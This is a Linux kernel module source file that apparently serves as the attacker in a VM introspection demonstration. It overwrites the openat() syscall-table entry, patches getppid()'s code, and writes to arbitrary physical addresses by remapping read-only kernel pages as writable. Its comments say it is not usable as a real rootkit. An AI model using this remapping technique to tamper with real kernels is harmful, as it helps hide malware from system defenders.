// SPDX-License-Identifier: GPL-2.0
/*
 * What a rootkit does when it is loaded into the guest of the demonstration: it
 * puts its own function into the table of system calls, and overwrites the first
 * instructions of another call.
 *
 * insmod rootkit.ko table=ADDRESS [look=1|beside=1]
 * insmod rootkit.ko gpa=ADDRESS
 *
 * It says what it finds when it looks again; with look=1 it changes nothing, and with beside=1
 * it writes next to the entry of openat(), and across its beginning.  With gpa= it reads and
 * writes eight bytes at a physical address, be it memory or not.  It is of no use as a
 * rootkit: Linux no longer takes its system calls from that table, and getppid() is a call that
 * nobody depends on.
 */
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>
#include <asm/unistd.h>

static ulong table, gpa;
static bool look, beside;

module_param(table, ulong, 0);
module_param(gpa, ulong, 0);
module_param(look, bool, 0);
module_param(beside, bool, 0);

static long rootkit_call(const struct pt_regs *regs)
{
	return -EPERM;
}

/*
 * The kernel's text and read-only data, mapped once more, can be written: what
 * the page tables say of one address does not hold for another.
 */
static void *map_writable(unsigned long address)
{
	struct page *page = virt_to_page((void *)address);

	void *map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	return map ? map + offset_in_page(address) : NULL;
}

static void unmap(void *address)
{
	vunmap((void *)((unsigned long)address & PAGE_MASK));
}

/* All of it in one page, and as it was in the end if nobody is in the way */
static int write_beside(unsigned long *entry)
{
	unsigned long *slot, before, at;
	void *across;

	if (offset_in_page(entry) < sizeof(*entry))
		return -EINVAL;
	slot = map_writable((unsigned long)entry);
	if (!slot)
		return -ENOMEM;

	before = READ_ONCE(slot[-1]);
	WRITE_ONCE(slot[-1], ~before);
	pr_alert("rootkit: the entry before is %s\n",
		 READ_ONCE(slot[-1]) == ~before ? "another" : "the same");
	WRITE_ONCE(slot[-1], before);

	at = READ_ONCE(*slot);
	across = (void *)slot - sizeof(u32);
	WRITE_ONCE(*(u64 *)across, ~0ull);
	pr_alert("rootkit: across the border, openat() in the table was %lx, now it is %lx\n",
		 at, READ_ONCE(*slot));
	pr_alert("rootkit: and the entry before is %s\n",
		 READ_ONCE(slot[-1]) == before ? "the same" : "another");
	unmap(slot);

	return 0;
}

/* By moves, and by a string instruction */
static int use_physical(void)
{
	u8 bytes[sizeof(u64)] = {}, *to = bytes, *from;
	unsigned long n = sizeof(bytes);
	u64 *word, before;

	word = memremap(gpa, sizeof(*word), MEMREMAP_WB);
	if (!word)
		return -ENOMEM;

	from = (u8 *)word;
	asm volatile("rep movsb" : "+D" (to), "+S" (from), "+c" (n) : : "memory");
	before = READ_ONCE(*word);
	WRITE_ONCE(*word, 0x9090909090909090ull);
	pr_alert("rootkit: at %lx is %016llx, copied %*phN, and after a write %016llx\n", gpa,
		 before, (int)sizeof(bytes), bytes, READ_ONCE(*word));
	memunmap(word);

	return 0;
}

static int __init rootkit_init(void)
{
	unsigned long *calls = (unsigned long *)table, *slot, old;
	u32 *insns, insn;

	if (gpa)
		return use_physical();
	if (!calls)
		return -EINVAL;
	if (look) {
		pr_alert("rootkit: the code of openat() is %*phN\n", 8,
			 (void *)calls[__NR_openat]);
		return 0;
	}
	if (beside)
		return write_beside(&calls[__NR_openat]);
	old = READ_ONCE(calls[__NR_openat]);
	insn = READ_ONCE(*(u32 *)calls[__NR_getppid]);
	slot = map_writable((unsigned long)&calls[__NR_openat]);
	insns = map_writable(calls[__NR_getppid]);
	if (!slot || !insns)
		return -ENOMEM;
	WRITE_ONCE(*slot, (unsigned long)rootkit_call);
	/* mov $31337, %eax; ret */
	WRITE_ONCE(insns[0], 0x007a69b8);
	WRITE_ONCE(insns[1], 0x9090c300);
	unmap(insns);
	unmap(slot);

	pr_alert("rootkit: openat() in the table was %lx, now it is %lx\n", old,
		 READ_ONCE(calls[__NR_openat]));
	pr_alert("rootkit: the code of getppid() was %08x, now it is %08x\n", insn,
		 READ_ONCE(*(u32 *)calls[__NR_getppid]));
	return 0;
}

static void __exit rootkit_exit(void)
{
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_DESCRIPTION("The attacker of the introspection demonstration");
MODULE_LICENSE("GPL");
